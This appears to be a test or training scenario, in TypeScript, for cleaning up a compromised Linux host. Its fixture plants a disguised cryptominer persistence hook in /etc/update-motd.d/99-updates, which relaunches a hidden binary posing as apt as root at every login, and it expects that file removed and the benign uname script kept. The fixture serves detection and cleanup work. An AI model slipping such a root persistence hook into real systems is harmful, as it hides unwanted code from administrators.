import { scenario } from '../scenario.ts';
import { startedBy } from '../words.ts';

export default scenario({
  what: 'a script of update-motd.d',
  report: 'Runs as root at every login, ours too: all of it is the miner’s, so the file goes.',
  ...startedBy('/var/cache/.apt/aptd', {
    files: {
      '/etc/update-motd.d/10-uname': '#!/bin/sh\nuname -snrvm\n',
      '/etc/update-motd.d/99-updates':
        '#!/bin/sh\npgrep -x aptd >/dev/null || /var/cache/.apt/aptd >/dev/null 2>&1 &\n',
    },
    starters: ['/etc/update-motd.d/99-updates'],
    stays: ['/etc/update-motd.d/10-uname'],
  }),
});
